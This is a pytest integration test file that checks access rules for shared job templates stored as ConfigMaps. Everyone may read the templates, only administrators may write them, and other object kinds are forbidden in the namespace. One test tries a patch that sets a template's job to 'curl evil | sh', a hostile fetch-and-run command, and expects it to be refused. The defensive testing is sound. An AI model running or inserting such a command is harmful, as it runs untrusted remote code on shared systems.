"""Templates that all groups see, on the API server's own answers: everybody reads them, administrators write them."""

from __future__ import annotations

import pytest

from tests.integration.control_plane import Api, Json
from tests.integration.users.conftest import Users, users
from tests.integration.users.test_rights import asked
from tests.waiting import until

__all__ = ["Api", "users"]
SPACE = "/api/v1/namespaces/pai-templates/configmaps"


def template(name: str, **metadata: object) -> Json:
    found = {"name": name, "namespace": "pai-templates", "labels": {"pai-install/template": "yes"}, **metadata}
    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": found, "data": {"job": "x"}}


@pytest.fixture(scope="module")
def published(users: Users) -> str:
    """A template of an administrator, once the policy counts."""
    until(lambda: "administrators alone" in users.of["alice"].create(template("template.probe")))
    assert users.of["dora"].create(template("template.shared")) == ""
    return "template.shared"


def test_everybody_reads_and_administrators_write(users: Users, published: str) -> None:
    for name in ("alice", "carol"):
        member = users.of[name]
        assert published in [it["metadata"]["name"] for it in member.ask("GET", SPACE)["items"]]
        assert "administrators alone" in member.create(template("template.mine"))
        assert "administrators alone" in asked(member, "DELETE", f"{SPACE}/{published}")
        change = {"data": {"job": "curl evil | sh"}}
        how = "application/merge-patch+json"
        assert "administrators alone" in asked(member, "PATCH", f"{SPACE}/{published}", change, how)
    assert asked(users.of["dora"], "PATCH", f"{SPACE}/{published}", {"data": {"job": "y"}}, how) == ""
    assert users.of["dora"].create(template("template.gone")) == ""
    assert asked(users.of["dora"], "DELETE", f"{SPACE}/template.gone") == ""


@pytest.mark.parametrize(
    "made",
    [
        template("kube-root-ca.crt", labels={}),
        template("other", labels={"a": "b"}),
        template("template.held", finalizers=["example.com/held"]),
        {**template("template.large"), "data": {"job": "x" * 200_000}},
    ],
    ids=["authority", "label", "finalizer", "large"],
)
def test_an_administrator_writes_templates_alone(users: Users, published: str, made: Json) -> None:
    assert users.of["dora"].create(made) != ""


@pytest.mark.parametrize("kind", ["Secret", "Pod", "ServiceAccount"])
def test_nobody_makes_anything_else_there(users: Users, published: str, kind: str) -> None:
    spec = {"spec": {"containers": [{"name": "main", "image": "none"}]}} if kind == "Pod" else {}
    for name in ("alice", "dora"):
        made: Json = {"apiVersion": "v1", "kind": kind, "metadata": {"name": "x", "namespace": "pai-templates"}, **spec}
        assert "forbidden" in users.of[name].create(made), name
